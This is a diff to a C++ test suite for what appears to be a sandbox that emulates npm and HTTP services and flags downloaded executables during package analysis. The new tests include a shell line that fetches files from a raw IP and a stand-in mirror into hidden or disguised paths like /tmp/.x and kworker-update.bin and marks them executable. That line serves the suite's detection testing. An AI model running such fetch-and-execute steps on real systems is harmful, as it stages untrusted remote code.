@@ -56,6 +56,15 @@ protected:
     static bool has(const sbx::RunResult& r, const std::string& text) {
         return r.stdoutTail.find(text) != std::string::npos;
     }
+
+    /// The run's change record of `path`, or nullopt (listing what changed).
+    static std::optional<sbx::FileChange> change(const sbx::RunResult& r, const std::string& path) {
+        for (const sbx::FileChange& c : r.changes)
+            if (c.path == path)
+                return c;
+        ADD_FAILURE() << "no change recorded for " << path << " among " << r.changes.size();
+        return std::nullopt;
+    }
 };
 
 TEST_F(EmulationTest, NpmWhoamiViewAndPublishSucceedAndThePublishIsRecorded) {
@@ -162,6 +171,68 @@ TEST_F(EmulationTest, GeoIpLookupsAnswerTheCountryTheRunAskedFor) {
     // Without a setting: a plausible default, the same for every service.
     const auto plain = run({"sh", "-c", "echo ipinfo=$(curl -sS https://ipinfo.io/country)"});
     EXPECT_TRUE(has(plain, "ipinfo=US\n")) << plain.stdoutTail;
+}
+
+TEST_F(EmulationTest, NpmInstallFromTheEmulatedRegistrySucceedsAndIsNoDownload) {
+    const auto pkg = makePackage();
+    writeFile(pkg / "package.json", R"({"name":"emul-host-app","version":"1.0.0","license":"MIT"})");
+    // What an install script does: install something more, from the registry npm knows.
+    const auto r = run({"sh", "-c",
+                        "npm install emul-probe-colors >/tmp/out 2>&1; echo install-rc=$?; tail -n 5 /tmp/out;"
+                        "node -p '\"installed=\" + require(\"emul-probe-colors/package.json\").version'"});
+    EXPECT_TRUE(has(r, "install-rc=0\n")) << r.stdoutTail << r.stderrTail;
+    EXPECT_TRUE(has(r, "installed=1.4.2\n")) << r.stdoutTail << r.stderrTail;
+
+    const auto metadata = emulated(r, "npm.metadata", "package", "emul-probe-colors");
+    ASSERT_TRUE(metadata);
+    EXPECT_EQ(metadata->attrs["host"], "registry.npmjs.org");
+    const auto tarball = emulated(r, "npm.tarball", "package", "emul-probe-colors");
+    ASSERT_TRUE(tarball);
+    EXPECT_EQ(tarball->attrs["path"], "/emul-probe-colors/-/emul-probe-colors-1.4.2.tgz");
+    EXPECT_EQ(tarball->attrs["emulated"]["version"], "1.4.2");
+    EXPECT_FALSE(tarball->attrs.contains("served_sha256"));  // registry bytes are never a payload
+
+    // npm cached the tarball and packument byte for byte and unpacked the package: none of it
+    // is a downloaded payload.
+    bool unpacked = false;
+    for (const sbx::FileChange& c : r.changes) {
+        EXPECT_FALSE(c.flags & sbx::FileChange::Served) << c.path;
+        unpacked = unpacked || c.path == "/home/dev/project/node_modules/emul-probe-colors/index.js";
+    }
+    EXPECT_TRUE(unpacked) << r.changes.size() << " changes";
+}
+
+TEST_F(EmulationTest, ADownloadIsKnownByTheBytesSavedNotByItsName) {
+    // A name-less URL gets the generic page; saved and made executable, it is a download all the
+    // same. A page saved and left alone is saved, not executable; one fetched to stdout is neither.
+    const auto r = run({"sh", "-c",
+                        "curl -sS -o /tmp/.x http://185.12.3.4/p && chmod +x /tmp/.x;"
+                        "curl -sS -o /tmp/kworker-update.bin http://cdn.release-mirror.example/x/kworker-update.bin;"
+                        "chmod 700 /tmp/kworker-update.bin;"
+                        "curl -sS -o /tmp/page.html https://cdn.release-mirror.example/index.html;"
+                        "curl -sS http://cdn.release-mirror.example/setup.sh >/dev/null;"
+                        "printf '#!/bin/sh\\necho mine\\n' >/tmp/own.sh; chmod +x /tmp/own.sh; echo done"});
+    ASSERT_TRUE(has(r, "done\n")) << r.stdoutTail << r.stderrTail;
+    using F = sbx::FileChange;
+    const auto page = change(r, "/tmp/.x"), elf = change(r, "/tmp/kworker-update.bin"), html = change(r, "/tmp/page.html"),
+               own = change(r, "/tmp/own.sh");
+    ASSERT_TRUE(page && elf && html && own);
+    EXPECT_EQ(page->flags & (F::Served | F::Executable), F::Served | F::Executable);
+    EXPECT_EQ(elf->flags & (F::Served | F::Executable), F::Served | F::Executable);
+    EXPECT_EQ(html->flags & (F::Served | F::Executable), F::Served);
+    // Written by the package itself: executable, not downloaded.
+    EXPECT_EQ(own->flags & (F::Served | F::Executable), F::Executable);
+    // As the engine records them: file.change attrs `downloaded` and `executable`.
+    const auto recorded = collect::overlayChangeEvents(r, collect::PhaseClock::sampleNow()).events;
+    const auto saved = std::find_if(recorded.begin(), recorded.end(),
+                                    [](const Event& e) { return e.attrs.value("path", "") == "/tmp/.x"; });
+    ASSERT_NE(saved, recorded.end());
+    EXPECT_TRUE(saved->attrs.value("downloaded", false));
+    EXPECT_TRUE(saved->attrs.value("executable", false));
+    // The HTTP records carry the digest the helper matched against.
+    const auto events = http(r);
+    EXPECT_TRUE(std::all_of(events.begin(), events.end(),
+                            [](const Event& e) { return e.attrs.value("served_sha256", "").size() == 64; }));
 }
 
 TEST_F(EmulationTest, DownloadedStubRunsAndItsExecIsTraced) {
